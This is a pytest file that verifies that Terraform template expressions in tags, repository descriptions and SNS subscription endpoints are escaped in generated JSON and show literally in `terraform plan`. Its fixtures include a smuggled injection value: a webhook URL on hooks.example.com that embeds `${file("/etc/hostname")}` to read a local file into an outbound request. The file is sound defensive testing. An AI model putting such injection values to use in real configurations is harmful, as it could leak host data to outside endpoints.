"""Template syntax in user text is escaped where it is emitted, and `terraform plan` shows it literally.

Tag values cannot hold `$` or `{` (AWS-TAG), so the tag case is built past validation to prove the
emitting side escapes too (defence in depth for tags merged in by other modules). The same for the
scan gate's subscription endpoints: an email address may hold `${...}` (the local part allows `$`,
`{`, `}`), and the https URL, which GATE-SUB-ENDPOINT rejects, is built past validation.
"""

from __future__ import annotations

import json
import shutil

import pytest

from core.models import Subscription
from core.tfrun import check_stack, find_provider_mirror
from tests.conftest import CONFIG, one
from tests.unit.helpers import loads

TEMPLATES = "${aws_region} %{ if true }x%{ endif }"
ESCAPED = "$${aws_region} %%{ if true }x%%{ endif }"
STACK = "stg-ap-northeast-1"
HOOK = 'https://hooks.example.com/${file("/etc/hostname")}'
MAIL = "${aws_region}%{ if true }x%{ endif }@example.com"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    from core.synth import synthesize

    config_dir = tmp_path_factory.mktemp("hostile")
    shutil.copytree(CONFIG, config_dir / "config")
    project = loads(config_dir / "config")
    envs = []
    for env in project.environments:
        if env.name == "stg":
            assert env.codeartifact is not None
            repos = list(env.codeartifact.repositories)
            repos[-1] = repos[-1].model_copy(update={"description": TEMPLATES})
            assert env.supply_chain is not None and env.supply_chain.scan_gate is not None
            gate = env.supply_chain.scan_gate
            subs = (
                Subscription(protocol="https", endpoint=HOOK),
                Subscription(protocol="email", endpoint=MAIL),
            )
            env = env.model_copy(
                update={
                    "default_tags": {**env.default_tags, "Note": TEMPLATES},
                    "codeartifact": env.codeartifact.model_copy(update={"repositories": tuple(repos)}),
                    "supply_chain": env.supply_chain.model_copy(
                        update={"scan_gate": gate.model_copy(update={"subscriptions": subs})}
                    ),
                }
            )
        envs.append(env)
    selected = [e for e in envs if e.name == "stg"]
    out = config_dir / "out"
    synthesize(selected, envs, out)
    body = json.loads((out / "stacks" / STACK / "cdk.tf.json").read_text())
    return body, check_stack(STACK, body, config_dir / "tf", find_provider_mirror())


def test_description_and_default_tag_are_escaped_in_the_json(hostile):
    body, _ = hostile
    assert body["provider"]["aws"][0]["default_tags"][0]["tags"]["Note"] == ESCAPED
    assert one(body, "aws_codeartifact_repository", description=ESCAPED)


def test_subscription_endpoints_are_escaped_in_the_json(hostile):
    body, _ = hostile
    endpoints = sorted(s["endpoint"] for s in body["resource"]["aws_sns_topic_subscription"].values())
    assert endpoints == [
        "$${aws_region}%%{ if true }x%%{ endif }@example.com",
        'https://hooks.example.com/$${file("/etc/hostname")}',
    ]


def test_plan_shows_the_literal_values(hostile):
    _, check = hostile
    assert check.ok, check.report()
    assert check.plan_json is not None
    changes = check.plan_json["resource_changes"]
    descriptions = [
        c["change"]["after"].get("description") for c in changes if c["type"] == "aws_codeartifact_repository"
    ]
    assert descriptions.count(TEMPLATES) == 1 and ESCAPED not in descriptions
    endpoints = [
        c["change"]["after"]["endpoint"] for c in changes if c["type"] == "aws_sns_topic_subscription"
    ]
    assert sorted(endpoints) == [MAIL, HOOK]
    tagged = [c["change"]["after"]["tags_all"] for c in changes if "tags_all" in (c["change"]["after"] or {})]
    assert tagged and all(t["Note"] == TEMPLATES for t in tagged)
